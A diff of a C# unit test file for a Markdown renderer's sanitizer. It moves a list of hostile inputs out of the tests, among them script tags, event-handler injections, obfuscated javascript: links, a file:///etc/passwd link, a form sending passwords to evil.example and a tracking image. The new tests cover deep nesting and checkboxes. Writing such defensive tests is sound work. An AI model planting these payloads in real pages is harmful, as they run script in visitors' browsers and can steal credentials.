@@ -10,34 +10,7 @@ public sealed class MarkdownTests : IDisposable
     public void Dispose() => _markdown.Dispose();
 
     [Theory]
-    [InlineData("<script>alert(1)</script>")]
-    [InlineData("<img src=x onerror=alert(1)>")]
-    [InlineData("<svg/onload=alert(1)>")]
-    [InlineData("<iframe srcdoc='<script>alert(1)</script>'>")]
-    [InlineData("<a href='javascript:alert(1)'>x</a>")]
-    [InlineData("<style>*{display:none}</style>")]
-    [InlineData("<details open ontoggle=alert(1)>")]
-    [InlineData("<form action=//evil.example><input name=password></form>")]
-    [InlineData("[x](javascript:alert(1))")]
-    [InlineData("[x](JaVaScRiPt:alert(1))")]
-    [InlineData("[x](java\tscript:alert(1))")]
-    [InlineData("[x](&#106;avascript:alert(1))")]
-    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
-    [InlineData("[x](vbscript:msgbox)")]
-    [InlineData("[x](file:///etc/passwd)")]
-    [InlineData("[x](//evil.example)")]
-    [InlineData("[x](/sign-out)")]
-    [InlineData("![x](https://evil.example/track.png)")]
-    [InlineData("![x](javascript:alert(1))")]
-    [InlineData("<javascript:alert(1)>")]
-    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
-    [InlineData("[a](https://a.example \"x\" onmouseover=alert(1))")]
-    [InlineData("`<script>alert(1)</script>`")]
-    [InlineData("```html\n<script>alert(1)</script>\n```")]
-    [InlineData("| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |")]
-    [InlineData("text <!-- --><script>alert(1)</script>")]
-    [InlineData("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
-    [InlineData("# heading {#main onclick=alert(1)}")]
+    [MemberData(nameof(HostileMarkdown.All), MemberType = typeof(HostileMarkdown))]
     public void Hostile_text_can_do_no_harm(string text)
     {
         var page = new HtmlParser().ParseDocument(_markdown.Html(text).Value);
@@ -49,6 +22,24 @@ public sealed class MarkdownTests : IDisposable
             if (element.GetAttribute("href") is { } link)
                 Assert.True(Uri.TryCreate(link, UriKind.Absolute, out var to) && to.Scheme is "http" or "https" or "mailto", link);
         }
+    }
+
+    [Theory]
+    [MemberData(nameof(HostileMarkdown.Deep), MemberType = typeof(HostileMarkdown))]
+    public void Text_that_is_nested_too_deeply_is_shown_as_it_was_typed(string text)
+    {
+        var page = new HtmlParser().ParseDocument(_markdown.Html(text).Value);
+
+        Assert.Contains("deep", page.Body!.TextContent, StringComparison.Ordinal);
+        Assert.Empty(page.QuerySelectorAll("script, img, b"));
+    }
+
+    [Fact]
+    public void Things_to_tick_show_whether_they_are_ticked()
+    {
+        var page = new HtmlParser().ParseDocument(_markdown.Html("- [ ] Ring before\n- [x] Wear a badge").Value);
+
+        Assert.Equal(["☐ Ring before", "☑ Wear a badge"], page.QuerySelectorAll("li").Select(li => li.TextContent.Trim()));
     }
 
     [Fact]
